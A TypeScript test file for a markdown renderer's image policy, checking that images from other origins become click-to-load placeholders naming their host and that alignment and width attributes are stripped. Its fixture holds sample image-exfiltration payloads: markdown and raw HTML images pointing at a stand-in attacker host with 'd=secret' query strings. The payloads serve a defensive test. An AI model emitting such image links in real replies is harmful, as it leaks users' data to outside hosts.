import { expect } from '@open-wc/testing';
import { renderMarkdown } from '../../../src/render/markdown.js';
import { applyImagePolicy, imageHost, loadsWithoutAsking } from '../../../src/render/image-placeholders.js';
import type { ImagePolicy } from '../../../src/render/image-policy.js';

const policy = (mode: ImagePolicy['mode']): ImagePolicy => ({ mode, showImage: 'Show image from {host}', imageBlocked: 'Image from {host} not shown' });

const REPLY = [
  '![inline](https://attacker.test/a.png?d=secret)',
  '',
  '![ref][1]',
  '',
  '<img src="https://attacker.test/raw.png?d=secret" alt="raw">',
  '',
  '![relative-protocol](//attacker.test/p.png)',
  '',
  '![own](/logo.png) ![data](data:image/png;base64,iVBORw0KGgo=)',
  '',
  '[1]: https://attacker.test/ref.png?d=secret',
].join('\n');

function rendered(mode: ImagePolicy['mode']) {
  const fragment = renderMarkdown(REPLY, policy(mode));
  const box = document.createElement('div');
  box.append(fragment);
  return box;
}

describe('image policy', () => {
  it('loads the page’s own, data: and blob: images without asking, nothing from other origins', () => {
    expect(loadsWithoutAsking('/a.png')).to.equal(true);
    expect(loadsWithoutAsking(`${location.origin}/a.png`)).to.equal(true);
    expect(loadsWithoutAsking('data:image/png;base64,AA')).to.equal(true);
    expect(loadsWithoutAsking('blob:https://x.test/1')).to.equal(true);
    expect(loadsWithoutAsking('https://attacker.test/a.png')).to.equal(false);
    expect(loadsWithoutAsking('//attacker.test/a.png')).to.equal(false);
    expect(imageHost('//attacker.test:8443/a.png')).to.equal('attacker.test:8443');
  });

  it('click: inline, reference-style, raw and protocol-relative images become placeholders naming the host; pressing one loads it', () => {
    const box = rendered('click');
    const sources = [...box.querySelectorAll('img')].map((image) => image.getAttribute('src') ?? '');
    expect(sources.every((src) => !src.includes('attacker.test'))).to.equal(true, sources.join());
    expect(sources.length).to.equal(2, 'the own and the data: image stay');
    const placeholders = [...box.querySelectorAll('button.image-placeholder')];
    expect(placeholders.map((button) => button.textContent)).to.deep.equal([
      'Show image from attacker.test (inline)',
      'Show image from attacker.test (ref)',
      'Show image from attacker.test (raw)',
      'Show image from attacker.test (relative-protocol)',
    ]);
    (placeholders[0] as HTMLButtonElement).click();
    expect(box.querySelector('img[src^="https://attacker.test/a.png"]') !== null).to.equal(true);
  });

  it('none: only the placeholders; allow: every image; and each image is bounded, never aligned', () => {
    const none = rendered('none');
    expect(none.querySelectorAll('button').length).to.equal(0);
    expect(none.querySelectorAll('span.image-placeholder').length).to.equal(4);
    const allowed = rendered('allow');
    expect(allowed.querySelectorAll('img').length).to.equal(6);
    const fragment = renderMarkdown('<img src="data:image/svg+xml;base64,PHN2Zz4=" align="right" width="32000"> <p align="right">I am you</p>');
    applyImagePolicy(fragment);
    const image = fragment.querySelector('img')!;
    expect([image.hasAttribute('align'), image.hasAttribute('width'), image.style.maxHeight, image.style.maxWidth]).to.deep.equal([false, false, '24em', '100%']);
    expect(fragment.querySelector('p')!.hasAttribute('align')).to.equal(false);
  });
});
